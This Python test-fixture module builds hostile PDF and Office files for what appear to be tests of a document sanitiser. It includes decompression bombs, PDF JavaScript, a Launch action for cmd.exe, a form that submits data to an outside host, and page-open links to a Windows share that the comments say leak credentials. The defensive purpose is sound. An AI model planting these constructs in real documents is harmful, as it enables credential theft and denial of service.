"""Hostile and odd files for the annex tests: built in memory, returned as bytes."""

from __future__ import annotations

import io
import zipfile
import zlib
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.conftest import CORPUS


def pdf_with_pages(count: int) -> bytes:
    """``count`` pages sharing one content stream: 10,000 pages cost about 1 MB."""
    pdf = pikepdf.new()
    content = pdf.make_stream(b"BT /F1 12 Tf 72 720 Td (pagina) Tj ET")
    kids = Array()
    for _ in range(count):
        kids.append(
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Page,
                    MediaBox=Array([0, 0, 595, 842]),
                    Contents=content,
                    Parent=pdf.Root.Pages,
                )
            )
        )
    pdf.Root.Pages.Kids = kids
    pdf.Root.Pages.Count = count
    return _saved(pdf)


def decompression_bomb(inflated: int = 512 * 1024 * 1024, *, as_content: bool = False) -> bytes:
    """A ~0.5 MB PDF with a stream of ``inflated`` zero bytes: a form XObject, or the page."""
    squeezer = zlib.compressobj(9)
    zeros = bytes(1024 * 1024)
    raw = b"".join(squeezer.compress(zeros) for _ in range(inflated // len(zeros)))
    raw += squeezer.flush()
    pdf = pikepdf.new()
    pdf.add_blank_page()
    stream = pdf.make_stream(b"")
    stream.write(raw, filter=Name.FlateDecode)
    if as_content:
        pdf.pages[0].obj.Contents = stream
    else:
        stream.Type = Name.XObject
        stream.Subtype = Name.Form
        stream.BBox = Array([0, 0, 1, 1])
        pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Bom=stream))
    return _saved(pdf, compress_streams=False)


def outline_loop() -> bytes:
    """Two pages whose second bookmark is its own child and points back to the first."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.add_blank_page()
    first = pdf.make_indirect(Dictionary(Title="Een", Dest=Array([pdf.pages[0].obj, Name.Fit])))
    second = pdf.make_indirect(Dictionary(Title="Twee", Dest=Array([pdf.pages[1].obj, Name.Fit])))
    root = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=first, Last=second, Count=2))
    first.Parent = second.Parent = root
    first.Next, second.Prev = second, first
    second.Next, second.First, second.Last = first, second, second
    pdf.Root.Outlines = root
    return _saved(pdf)


def with_attachments() -> bytes:
    """A corpus PDF carrying two attached files and a third in a page's paperclip note."""
    with pikepdf.open(CORPUS / "004-pdflatex-4-pages--pdflatex-4-pages.pdf") as pdf:
        for name, data in (("deelnemers.xlsx", b"naam;adres"), ("notitie.docx", b"intern")):
            pdf.attachments[name] = pikepdf.AttachedFileSpec(pdf, data, filename=name)
        note = pikepdf.AttachedFileSpec(pdf, b"concept", filename="concept.txt")
        paperclip = Dictionary(
            Type=Name.Annot,
            Subtype=Name.FileAttachment,
            Rect=Array([72, 72, 90, 90]),
            FS=note.obj,
        )
        pdf.pages[1].obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(paperclip)]))
        return _saved(pdf)


def with_active_content() -> bytes:
    """A corpus PDF with bookmarks and internal links, given every kind of active content.

    A script when the document and its second page open, a link that runs a script, one that
    starts a program, a form button that sends its data (its field also has a format script),
    a bookmark that runs a script, and an internal link whose chained action imports data.
    """
    with pikepdf.open(CORPUS / "006-pdflatex-outline--pdflatex-outline.pdf") as pdf:

        def script(text: str) -> Dictionary:
            return Dictionary(S=Name.JavaScript, JS=pikepdf.String(text))

        def link(top: int, action: Dictionary) -> Dictionary:
            rect = Array([72, top, 200, top + 20])
            return pdf.make_indirect(
                Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=rect, A=action)
            )

        pdf.Root.OpenAction = pdf.make_indirect(script("app.alert('open');"))
        page = pdf.pages[1].obj
        page.AA = Dictionary(O=script("app.alert('page');"))
        submit = Dictionary(
            S=Name.SubmitForm,
            F=Dictionary(FS=Name.URL, F=pikepdf.String("https://verzamelen.example/")),
        )
        button = pdf.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Widget,
                FT=Name.Btn,
                Ff=65536,  # a push button
                T=pikepdf.String("verstuur"),
                Rect=Array([300, 72, 400, 92]),
                A=submit,
                AA=Dictionary(F=script("event.value = util.printd('dd-mm', new Date());")),
                P=page,
            )
        )
        launch = Dictionary(S=Name.Launch, F=pikepdf.String("cmd.exe"))
        import_data = Dictionary(S=Name.ImportData, F=pikepdf.String("gegevens.fdf"))
        goto = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=import_data)
        annots = page.get("/Annots") or Array()
        annots.extend(
            [link(100, script("app.alert('link');")), link(130, launch), link(160, goto), button]
        )
        page.Annots = pdf.make_indirect(annots)
        pdf.Root.AcroForm = Dictionary(Fields=Array([button]))
        pdf.Root.Outlines.First.A = script("app.alert('bookmark');")
        return _saved(pdf)


# A host on the documentation network (RFC 5737): what the security test found used one.
SHARE = "\\\\203.0.113.9\\share"
# The addresses in with_links_elsewhere that stay links in a bundle.
WEB_LINKS = ("https://www.regiogv.nl/stukken/", "mailto:griffie@regiogv.nl")


def actions_in(pdf: pikepdf.Pdf) -> list[Dictionary]:
    """Every action a PDF holds, also those written inside another object (``pdf.objects``
    lists only the objects of their own)."""
    found: list[Dictionary] = []
    todo: list[Any] = list(pdf.objects)
    while todo:
        obj = todo.pop()
        if isinstance(obj, Dictionary) and Name.S in obj:
            found.append(obj)
        inside = list(obj.values()) if isinstance(obj, Dictionary | pikepdf.Stream) else obj
        if isinstance(inside, Array | list):
            todo.extend(
                o for o in inside if isinstance(o, Array | Dictionary) and not o.is_indirect
            )
    return found


def with_links_elsewhere() -> bytes:
    """A corpus PDF whose links and page-open action reach other files and computers.

    Its first page, when opened, goes to a PDF on a Windows share (the way to make a reader
    hand a stranger its Windows credentials); its second page has links to a program on this
    computer (``file:``), to a share by its UNC path and by ``smb:``, to a PDF and to an article
    in a file on that share; and links that stay: a web page, an e-mail address, a page of its
    own, an article of its own and the print command.
    """
    with pikepdf.open(CORPUS / "004-pdflatex-4-pages--pdflatex-4-pages.pdf") as pdf:
        shared_pdf = Dictionary(
            Type=Name.Filespec,
            FS=Name.URL,
            F=pikepdf.String(SHARE + "\\x.pdf"),
            UF=pikepdf.String(SHARE + "\\x.pdf"),
        )
        pdf.pages[0].obj.AA = Dictionary(
            O=Dictionary(S=Name.GoToR, F=shared_pdf, D=Array([0, Name.Fit]), NewWindow=True)
        )
        article = pdf.make_indirect(
            Dictionary(Type=Name.Thread, I=Dictionary(Title=pikepdf.String("Artikel")))
        )
        pdf.Root.Threads = Array([article])

        def uri(address: str) -> Dictionary:
            return Dictionary(S=Name.URI, URI=pikepdf.String(address))

        actions = [
            uri("file:///C:/Windows/System32/calc.exe"),
            uri(SHARE + "\\doc"),
            uri("smb://203.0.113.9/share/doc"),
            Dictionary(S=Name.GoToR, F=pikepdf.String(SHARE + "\\y.pdf"), D=Array([0, Name.Fit])),
            Dictionary(S=Name.Thread, F=pikepdf.String(SHARE + "\\z.pdf"), D=0),
            *(uri(address) for address in WEB_LINKS),
            Dictionary(S=Name.GoTo, D=Array([pdf.pages[2].obj, Name.Fit])),
            Dictionary(S=Name.Thread, D=article),
            Dictionary(S=Name.Named, N=Name.Print),
        ]
        page = pdf.pages[1].obj
        page.Annots = pdf.make_indirect(
            Array(
                pdf.make_indirect(
                    Dictionary(
                        Type=Name.Annot,
                        Subtype=Name.Link,
                        Rect=Array([72, 700 - 30 * index, 300, 720 - 30 * index]),
                        A=action,
                    )
                )
                for index, action in enumerate(actions)
            )
        )
        return _saved(pdf)


def encrypted(*, user: str) -> bytes:
    """A corpus PDF encrypted with an owner password and ``user`` ('' = permissions only)."""
    with pikepdf.open(CORPUS / "004-pdflatex-4-pages--pdflatex-4-pages.pdf") as pdf:
        return _saved(
            pdf,
            encryption=pikepdf.Encryption(
                owner="eigenaar", user=user, allow=pikepdf.Permissions(extract=False)
            ),
        )


def truncated_pdf() -> bytes:
    data = (CORPUS / "006-pdflatex-outline--pdflatex-outline.pdf").read_bytes()
    return data[: len(data) // 2]


def minimal_docx() -> bytes:
    """A zip with the two names Word needs: passes as an Office file, not as a PDF."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships '
    'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)
_REL_TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def docx_linking(*targets: str, kind: str = "image") -> bytes:
    """A Word document showing a picture linked (not embedded) to each of ``targets``, as
    Word's 'Insert picture > Link to file' saves it; ``kind`` is the relationship's type."""
    rels = "".join(
        f'<Relationship Id="rId{i}" Type="{_REL_TYPES}{kind}" Target="{target}" '
        'TargetMode="External"/>'
        for i, target in enumerate(targets, 5)
    )
    pictures = "".join(
        f'<w:p><w:r><w:drawing><wp:inline><wp:extent cx="1800000" cy="450000"/><wp:docPr id="{i}" '
        'name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/'
        '2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/>'
        f'</pic:nvPicPr><pic:blipFill><a:blip r:link="rId{i}"/><a:stretch><a:fillRect/>'
        '</a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="1800000" '
        'cy="450000"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData>'
        "</a:graphic></wp:inline></w:drawing></w:r></w:p>"
        for i, _ in enumerate(targets, 5)
    )
    return _docx(rels, pictures)


def docx_with_hyperlink_and_template(url: str) -> bytes:
    """A Word document with a hyperlink to ``url`` and a template on a share: no picture."""
    rels = (
        f'<Relationship Id="rId5" Type="{_REL_TYPES}hyperlink" Target="{url}" '
        'TargetMode="External"/>'
        f'<Relationship Id="rId6" Type="{_REL_TYPES}attachedTemplate" '
        'Target="file:///\\\\server\\sjablonen\\Brief.dotx" TargetMode="External"/>'
    )
    text = '<w:p><w:hyperlink r:id="rId5"><w:r><w:t>website</w:t></w:r></w:hyperlink></w:p>'
    return _docx(rels, text)


def _docx(rels: str, body: str) -> bytes:
    document = (
        '<?xml version="1.0" encoding="UTF-8"?><w:document '
        'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
        'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:body>'
        f"<w:p><w:r><w:t>Kantoorbijlage</w:t></w:r></w:p>{body}</w:body></w:document>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.'
            'org/package/2006/content-types"><Default Extension="rels" ContentType="application/'
            'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
            'ContentType="application/xml"/><Override PartName="/word/document.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.'
            'document.main+xml"/></Types>',
        )
        archive.writestr(
            "_rels/.rels",
            _RELS.format(
                f'<Relationship Id="rId1" Type="{_REL_TYPES}officeDocument" '
                'Target="word/document.xml"/>'
            ),
        )
        archive.writestr("word/_rels/document.xml.rels", _RELS.format(rels))
        archive.writestr("word/document.xml", document)
    return buffer.getvalue()


def odt_linking(*targets: str, element: str = "draw:image") -> bytes:
    """An OpenDocument text with a frame per target holding ``element`` linked to it."""
    frames = "".join(
        '<text:p>x <draw:frame draw:name="f" svg:width="5cm" svg:height="2cm" '
        f'text:anchor-type="as-char"><{element} xlink:href="{target}" xlink:type="simple" '
        'xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>'
        for target in targets
    )
    content = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
        'xmlns:xlink="http://www.w3.org/1999/xlink" '
        'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
        'office:version="1.2"><office:body><office:text><text:p>Kantoorbijlage '
        '<text:a xlink:href="https://www.example.org/">website</text:a></text:p>'
        f"{frames}</office:text></office:body></office:document-content>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", content, zipfile.ZIP_DEFLATED)
        archive.writestr(
            "META-INF/manifest.xml",
            '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:'
            'names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry '
            'manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
            '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
            "</manifest:manifest>",
            zipfile.ZIP_DEFLATED,
        )
    return buffer.getvalue()


def docx_bomb(unpacked: int = 240 * 1024 * 1024) -> bytes:
    """A Word document of under a megabyte whose document.xml unpacks to ``unpacked`` bytes."""
    line = b"<w:p><w:r><w:t>Dit is een regel tekst van een bijlage.</w:t></w:r></w:p>"
    block = line * (1024 * 1024 // len(line))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            for _ in range(unpacked // len(block)):
                member.write(block)
    return buffer.getvalue()


def _saved(pdf: pikepdf.Pdf, **options: object) -> bytes:
    buffer = io.BytesIO()
    pdf.save(buffer, **options)
    pdf.close()
    return buffer.getvalue()
